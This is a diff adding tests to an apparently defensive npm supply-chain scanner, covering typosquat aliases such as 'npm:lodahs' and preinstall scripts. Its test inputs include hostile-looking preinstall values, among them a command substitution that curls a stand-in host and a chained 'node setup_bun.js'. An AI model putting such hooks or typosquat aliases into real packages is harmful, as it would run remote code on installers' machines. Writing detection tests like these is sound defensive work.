@@ -1446,6 +1446,13 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(urls(lines('[project]', 'name = "app"', 'dependencies = ["django>=4.2"]', '', '[dependency-groups]', 'django61 = [ "django>=6.1rc1,<6.2" ]', ''), groups('>=6.1,<6.2'))).toEqual([['medium', 7]]);
   });
 
+  it('reads an existing dependency moved to another package through an alias (lodash to npm:lodahs at the same range) as a new name; an alias of a popular package is not a squat', () => {
+    const squats = (head: Record<string, string>) =>
+      analyze(snapshotOf(change('package.json', pkg({ dependencies: { lodash: '^4.17.21', 'string-width': '^4.2.0' } }), pkg({ dependencies: head })))).findings.filter((f) => f.id === 'typosquat').map((f) => [f.package, f.severity]);
+    expect(squats({ lodash: 'npm:lodahs@^4.17.21', 'string-width': '^4.2.0' })).toEqual([['lodahs', 'high']]);
+    expect(squats({ lodash: 'npm:lodash-es@^4.17.21', 'string-width': 'npm:string-width@^4.2.0' })).toEqual([]);
+  });
+
   it('escalates a typosquat that runs an install script to critical', () => {
     const section = analyze(
       snapshotOf(
@@ -1508,6 +1515,16 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     // The same harmless script run twice is read once and stays harmless.
     expect(severity('npm run hooks && npm run hooks', { hooks: 'husky' })).toEqual(['low']);
     expect(severity('husky install $(node x.js)')).toEqual(['high']);
+  });
+
+  it("keeps a preinstall that only guards the package manager (npx only-allow pnpm, pnpm's documented recipe) low; only-allow of anything else, or with more, high", () => {
+    const finding = (preinstall: string) =>
+      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', preinstall } })))).findings.filter((f) => f.id === 'npm-install-script');
+    expect(finding('npx only-allow pnpm').map((f) => [f.severity, f.title])).toEqual([['low', 'New install script "preinstall" in package.json (a package-manager guard)']]);
+    expect(finding('only-allow yarn && husky').map((f) => f.severity)).toEqual(['low']);
+    expect(finding('npx only-allow pnpm && node setup_bun.js').map((f) => f.severity)).toEqual(['high']);
+    expect(finding('npx only-allow ./scripts/check.js').map((f) => f.severity)).toEqual(['high']);
+    expect(finding('npx only-allow pnpm $(curl -s https://example.test/x)').map((f) => f.severity)).toEqual(['high']);
   });
 
   it("keeps a prepare script that only builds the package with its own compiler or bundler low; one that runs the repository's scripts or anything else high", () => {
